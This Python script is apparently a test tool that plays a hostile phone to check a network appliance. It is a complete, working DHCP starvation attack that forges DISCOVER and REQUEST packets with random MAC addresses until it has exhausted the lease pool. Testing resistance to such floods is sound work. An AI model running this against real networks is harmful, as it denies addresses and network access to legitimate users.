"""A hostile phone that takes DHCP leases for made-up clients: one network
interface (one Wi-Fi station: its frames carry its own MAC), a new random
client hardware address (chaddr) in every DISCOVER/REQUEST, as tools for
DHCP starvation do. Run inside the phone's network namespace:

    dhcp_flood.py IFNAME MAX_LEASES GIVE_UP_AFTER_SILENT

Prints one JSON line: {"acked": N, "tries": N, "seconds": S}. It stops after
MAX_LEASES leases or GIVE_UP_AFTER_SILENT tries in a row without an answer.
The packet is laid out by hand (RFC 2131): a test tool, not part of the box."""
import json
import os
import socket
import struct
import sys
import time

COOKIE = b"\x63\x82\x53\x63"
WAIT_S = 0.4                     # for each OFFER / ACK


def packet(xid, mac, msg_type, extra=b""):
    head = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                       b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, mac + b"\0" * 10,
                       b"\0" * 64, b"\0" * 128)
    return head + COOKIE + bytes([53, 1, msg_type]) + extra + b"\xff"


def options(data):
    out, i = {}, 240
    while i < len(data) and data[i] != 255:
        if data[i] == 0:
            i += 1
            continue
        code, n = data[i], data[i + 1]
        out[code] = data[i + 2:i + 2 + n]
        i += 2 + n
    return out


def answer(sock, xid, want):
    end = time.monotonic() + WAIT_S
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return None
        sock.settimeout(left)
        try:
            data = sock.recv(2048)
        except socket.timeout:
            return None
        if len(data) < 240 or data[240 - 4:240] != COOKIE:
            continue
        if struct.unpack("!I", data[4:8])[0] != xid:
            continue
        opts = options(data)
        if opts.get(53) == bytes([want]):
            return data[16:20], opts


def main():
    ifname, most, give_up = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
    s.bind(("0.0.0.0", 68))
    acked = tries = silent = 0
    start = time.monotonic()
    while acked < most and silent < give_up:
        tries += 1
        mac = b"\x02" + os.urandom(5)             # locally administered, as phones randomise
        xid = struct.unpack("!I", os.urandom(4))[0]
        s.sendto(packet(xid, mac, 1), ("255.255.255.255", 67))
        offer = answer(s, xid, 2)
        if offer is None:
            silent += 1
            continue
        yiaddr, opts = offer
        s.sendto(packet(xid, mac, 3, bytes([50, 4]) + yiaddr + bytes([54, 4]) + opts[54]),
                 ("255.255.255.255", 67))
        if answer(s, xid, 5) is None:
            silent += 1
            continue
        acked += 1
        silent = 0
    print(json.dumps({"acked": acked, "tries": tries,
                      "seconds": round(time.monotonic() - start, 2)}))


if __name__ == "__main__":
    main()
